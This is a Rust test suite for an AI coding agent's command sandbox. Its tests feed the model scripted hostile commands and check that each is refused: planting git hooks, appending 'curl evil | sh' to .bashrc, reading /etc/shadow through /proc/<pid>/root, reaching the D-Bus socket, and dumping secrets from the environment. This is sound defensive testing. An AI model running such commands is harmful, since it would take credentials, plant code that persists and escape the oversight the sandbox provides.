//! Least privilege around the model's commands, through the real binaries: `.git` is
//! read-only to them at any depth and in any case, the session's runtime sockets are out of
//! reach, `/etc/shadow` is unreadable even as root, the daemon's environment reaches them
//! only through the allowlist, and a path the sandbox refused is named in the result with
//! the key that would allow it.

use std::io::ErrorKind;
use std::os::unix::net::UnixListener;
use std::path::Path;

use codaris_test_support::sandbox::{Sandbox, json, stderr};
use serde_json::{Value, json};

/// One `run_command` per command, then a closing text.
fn script(commands: &[String]) -> Value {
    let mut rounds: Vec<Value> = commands
        .iter()
        .map(|command| {
            let args = json!({"command": command, "timeout_seconds": 600});
            json!({"tool_calls": [{"name": "run_command", "args": args}]})
        })
        .collect();
    rounds.push(json!({"text": "done"}));
    json!({"turns": [{"rounds": rounds}]})
}

/// The tool results of `codaris run --json` in `cwd`, every card approved for the session.
fn run(sandbox: &Sandbox, cwd: &Path, commands: &[String]) -> Vec<String> {
    let output = sandbox
        .command("codaris")
        .args(sandbox.run_args(cwd, &script(commands), &["--approve", "session"], "go"))
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    let outputs: Vec<String> = String::from_utf8_lossy(&output.stdout)
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .filter(|event| event["type"] == "tool_result")
        .map(|event| event["output"].as_str().unwrap_or_default().to_owned())
        .collect();
    assert_eq!(outputs.len(), commands.len(), "{outputs:#?}");
    outputs
}

fn plain(command: &str) -> String {
    command.to_owned()
}

#[test]
fn git_is_read_only_to_commands_at_any_depth_and_in_any_case() {
    let sandbox = Sandbox::new();
    sandbox.write_config("");
    let proj = sandbox.root.path().join("proj");
    for dir in [".git/hooks", "sub/lib/.git/hooks", "pkg/.GIT/hooks", "src"] {
        std::fs::create_dir_all(proj.join(dir)).unwrap();
    }
    std::fs::write(proj.join(".git/config"), "[core]\n").unwrap();
    let _daemon = sandbox.start_daemon(&[]);
    let test = "git_is_read_only_to_commands_at_any_depth_and_in_any_case";
    if !sandbox.mount_namespace_or_skip(test) {
        return;
    }
    let hook = "printf '#!/bin/sh\\necho planted\\n' >";
    let commands = vec![
        plain(&format!("{hook} .git/hooks/pre-commit")),
        plain(&format!("{hook} sub/lib/.git/hooks/pre-commit")),
        plain(&format!("{hook} pkg/.GIT/hooks/pre-commit")),
        plain("touch .git/x"),
        plain("git config core.hooksPath /tmp"),
        plain(&format!("cd .git && {hook} hooks/post-checkout")),
        plain("mv .git .git-moved"),
        plain("touch src/x"),
    ];
    let outputs = run(&sandbox, &proj, &commands);
    for (command, out) in commands.iter().zip(&outputs).take(7) {
        assert!(!out.starts_with("exit code: 0"), "{command}: {out}");
    }
    assert!(
        outputs[0].contains("Read-only file system")
            && outputs[0].contains("`.git` is read-only to commands"),
        "{}",
        outputs[0]
    );
    for planted in [
        ".git/hooks/pre-commit",
        "sub/lib/.git/hooks/pre-commit",
        "pkg/.GIT/hooks/pre-commit",
        ".git/x",
        ".git/hooks/post-checkout",
    ] {
        assert!(!proj.join(planted).exists(), "{planted} was written");
    }
    assert_eq!(
        std::fs::read_to_string(proj.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(proj.join(".git").is_dir() && !proj.join(".git-moved").exists());
    assert!(outputs[7].starts_with("exit code: 0"), "{}", outputs[7]);
    assert!(proj.join("src/x").exists());
}

#[test]
fn a_git_dir_a_command_creates_is_read_only_from_the_next_command_on() {
    let sandbox = Sandbox::new();
    sandbox.write_config("");
    let proj = sandbox.root.path().join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    let _daemon = sandbox.start_daemon(&[]);
    let test = "a_git_dir_a_command_creates_is_read_only_from_the_next_command_on";
    if !sandbox.mount_namespace_or_skip(test) {
        return;
    }
    let outputs = run(
        &sandbox,
        &proj,
        &[
            plain("mkdir -p new/.git/hooks"),
            plain("echo planted > new/.git/hooks/pre-commit"),
        ],
    );
    assert!(outputs[0].starts_with("exit code: 0"), "{}", outputs[0]);
    assert!(!outputs[1].starts_with("exit code: 0"), "{}", outputs[1]);
    assert!(!proj.join("new/.git/hooks/pre-commit").exists());
}

#[test]
fn the_session_runtime_sockets_are_out_of_reach() {
    let sandbox = Sandbox::new();
    sandbox.write_config("");
    let proj = sandbox.root.path().join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    // A stand-in for `/run/user/<uid>`: the session bus lives at `bus` there.
    let runtime = sandbox.root.path().join("run/user/1000");
    std::fs::create_dir_all(&runtime).unwrap();
    let bus = runtime.join("bus");
    let listener = UnixListener::bind(&bus).unwrap();
    listener.set_nonblocking(true).unwrap();
    let runtime_dir = runtime.display().to_string();
    let address = format!("unix:path={}", bus.display());
    let _daemon = sandbox.start_daemon_in(
        sandbox.root.path(),
        &[
            ("XDG_RUNTIME_DIR", &runtime_dir),
            ("DBUS_SESSION_BUS_ADDRESS", &address),
        ],
        &[],
    );
    let test = "the_session_runtime_sockets_are_out_of_reach";
    if !sandbox.mount_namespace_or_skip(test) {
        return;
    }
    let connect = format!(
        "/usr/bin/python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}'); print('connected')\"",
        bus.display()
    );
    let outputs = run(&sandbox, &proj, &[plain(&connect)]);
    assert!(!outputs[0].starts_with("exit code: 0"), "{}", outputs[0]);
    assert!(!outputs[0].contains("connected\n"), "{}", outputs[0]);
    match listener.accept() {
        Err(error) if error.kind() == ErrorKind::WouldBlock => {}
        other => panic!("the bus was reached: {other:?}"),
    }
}

#[test]
fn the_daemons_environment_reaches_commands_only_through_the_allowlist() {
    let sandbox = Sandbox::new();
    sandbox.write_config("[tools]\nenv_passthrough = [\"MY_TOOL_HOME\"]\n");
    let proj = sandbox.root.path().join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    let _daemon = sandbox.start_daemon_in(
        sandbox.root.path(),
        &[
            ("MY_SECRET_TOKEN", "e2e-secret-token-7781"),
            ("AWS_SECRET_ACCESS_KEY", "e2e-aws-secret-7781"),
            ("MY_TOOL_HOME", "/opt/e2e-tool-home"),
            ("NXF_OPTS", "-Xms1g"),
        ],
        &[],
    );
    let outputs = run(&sandbox, &proj, &[plain("env")]);
    let out = &outputs[0];
    assert!(out.starts_with("exit code: 0"), "{out}");
    for secret in ["e2e-secret-token-7781", "e2e-aws-secret-7781"] {
        assert!(
            !out.contains(secret),
            "`{secret}` reached the command: {out}"
        );
    }
    for passed in [
        "MY_TOOL_HOME=/opt/e2e-tool-home",
        "NXF_OPTS=-Xms1g",
        "PATH=",
    ] {
        assert!(out.contains(passed), "{passed}: {out}");
    }
}

/// The daemon's own mount namespace is one `/proc/<pid>/root` away: through it `.git` would be
/// writable and `/etc/shadow` the real file. Landlock refuses a sandboxed process access to a
/// process outside its domain (the ptrace check `/proc/<pid>/root` makes), so neither the
/// daemon's view nor init's opens.
#[test]
fn the_daemons_mount_namespace_is_not_reached_through_proc() {
    let sandbox = Sandbox::new();
    sandbox.write_config("");
    let proj = sandbox.root.path().join("proj");
    std::fs::create_dir_all(proj.join(".git/hooks")).unwrap();
    std::fs::write(proj.join("secret.txt"), "marker-in-the-daemons-view").unwrap();
    let daemon = sandbox.start_daemon(&[]);
    if !sandbox.mount_namespace_or_skip("the_daemons_mount_namespace_is_not_reached_through_proc")
        || !sandbox.landlock_or_skip("the_daemons_mount_namespace_is_not_reached_through_proc")
    {
        return;
    }
    let pid = daemon.pid();
    let hook = proj.join(".git/hooks/pre-commit");
    let outputs = run(
        &sandbox,
        &proj,
        &[
            format!("echo planted > /proc/{pid}/root{}", hook.display()),
            format!("echo planted > /proc/1/root{}", hook.display()),
            format!("cat /proc/{pid}/root/etc/shadow /proc/1/root/etc/shadow"),
            format!("cat /proc/{pid}/root{}", proj.join("secret.txt").display()),
        ],
    );
    assert!(!hook.exists(), "a hook was planted: {outputs:#?}");
    for output in &outputs {
        assert!(!output.starts_with("exit code: 0"), "{output}");
        assert!(!output.contains("root:"), "{output}");
    }
    assert!(
        !outputs[3].contains("marker-in-the-daemons-view"),
        "{}",
        outputs[3]
    );
}

/// A configuration that makes `$HOME` a root: the shell's and git's startup files there stay
/// read-only to commands (a line planted in `.bashrc` or `.gitconfig` would run at the person's
/// next shell or commit, outside any sandbox), while the rest of the root is writable.
#[test]
fn startup_files_in_a_home_root_are_read_only_to_commands() {
    let sandbox = Sandbox::new();
    let home = sandbox.root.path().join("home");
    std::fs::create_dir_all(home.join("proj")).unwrap();
    std::fs::write(home.join(".bashrc"), "# the person's\n").unwrap();
    std::fs::write(home.join(".gitconfig"), "[user]\n\tname = me\n").unwrap();
    sandbox.write_config(&format!("allowed_dirs = [\"{}\"]\n", home.display()));
    let _daemon = sandbox.start_daemon(&[]);
    if !sandbox.mount_namespace_or_skip("startup_files_in_a_home_root_are_read_only_to_commands") {
        return;
    }
    let proj = home.join("proj");
    let outputs = run(
        &sandbox,
        &proj,
        &[
            plain("echo 'curl evil | sh' >> \"$HOME/.bashrc\""),
            plain("git config --global core.hooksPath \"$PWD\""),
            plain("echo kept > \"$HOME/proj/notes\""),
        ],
    );
    assert!(!outputs[0].starts_with("exit code: 0"), "{}", outputs[0]);
    assert!(!outputs[1].starts_with("exit code: 0"), "{}", outputs[1]);
    assert!(outputs[2].starts_with("exit code: 0"), "{}", outputs[2]);
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# the person's\n"
    );
    assert!(
        !std::fs::read_to_string(home.join(".gitconfig"))
            .unwrap()
            .contains("hooksPath")
    );
    assert_eq!(
        std::fs::read_to_string(proj.join("notes")).unwrap(),
        "kept\n"
    );
}

#[test]
fn etc_shadow_is_unreadable_even_as_root() {
    if !rustix::process::geteuid().is_root() {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "CI runs as root"
        );
        eprintln!("SKIPPED etc_shadow_is_unreadable_even_as_root: not root");
        return;
    }
    let sandbox = Sandbox::new();
    sandbox.write_config("");
    let proj = sandbox.root.path().join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    let _daemon = sandbox.start_daemon(&[]);
    if !sandbox.landlock_or_skip("etc_shadow_is_unreadable_even_as_root") {
        return;
    }
    let outputs = run(
        &sandbox,
        &proj,
        &[plain("cat /etc/shadow"), plain("head -c 4 /etc/passwd")],
    );
    assert!(!outputs[0].starts_with("exit code: 0"), "{}", outputs[0]);
    assert!(!outputs[0].contains("root:"), "{}", outputs[0]);
    assert!(
        outputs[0].contains("`/etc/shadow`: it is protected"),
        "{}",
        outputs[0]
    );
    assert!(outputs[1].starts_with("exit code: 0"), "{}", outputs[1]);
}

#[test]
fn a_denied_read_names_the_path_and_the_key_that_allows_it() {
    let sandbox = Sandbox::new();
    sandbox.write_config("");
    let proj = sandbox.root.path().join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    let elsewhere = sandbox.root.path().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    let data = elsewhere.join("reference.fa");
    std::fs::write(&data, ">chr1\nACGT\n").unwrap();
    let _daemon = sandbox.start_daemon(&[]);
    if !sandbox.landlock_or_skip("a_denied_read_names_the_path_and_the_key_that_allows_it") {
        return;
    }
    let outputs = run(
        &sandbox,
        &proj,
        &[
            plain(&format!("cat '{}'", data.display())),
            plain(&format!(
                "/usr/bin/python3 -c \"open('{}')\"",
                data.display()
            )),
        ],
    );
    for out in &outputs {
        assert!(!out.starts_with("exit code: 0"), "{out}");
        assert!(
            out.contains(&format!("note: the sandbox refused `{}`", data.display()))
                && out.contains("`tools.sandbox_readable`"),
            "{out}"
        );
    }
}

#[test]
fn the_java_the_daemon_finds_is_readable_to_commands_and_named_by_doctor() {
    let sandbox = Sandbox::new();
    sandbox.write_config("");
    let proj = sandbox.root.path().join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    // A stand-in JDK outside the roots and the system set, as SDKMAN installs one.
    let jdk = sandbox.root.path().join("sdk/java/17.0.9-tem");
    std::fs::create_dir_all(jdk.join("bin")).unwrap();
    let java = jdk.join("bin/java");
    std::fs::write(&java, "#!/bin/sh\necho stand-in-java-runs\n").unwrap();
    std::fs::set_permissions(&java, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let java_home = jdk.display().to_string();
    let _daemon = sandbox.start_daemon_in(sandbox.root.path(), &[("JAVA_HOME", &java_home)], &[]);
    let doctor = json(&sandbox.cli(&["doctor", "--json"]));
    let runtimes = doctor["runtimes"].as_array().cloned().unwrap_or_default();
    let named = runtimes
        .iter()
        .find(|check| check["program"] == "java")
        .unwrap_or_else(|| panic!("doctor names no java: {doctor}"));
    assert_eq!(named["path"], json!(java.display().to_string()), "{doctor}");
    assert_eq!(named["ok"], json!(true), "{doctor}");
    if !sandbox
        .landlock_or_skip("the_java_the_daemon_finds_is_readable_to_commands_and_named_by_doctor")
    {
        return;
    }
    let outputs = run(&sandbox, &proj, &[plain("\"$JAVA_HOME/bin/java\"")]);
    assert!(
        outputs[0].starts_with("exit code: 0") && outputs[0].contains("stand-in-java-runs"),
        "{}",
        outputs[0]
    );
}
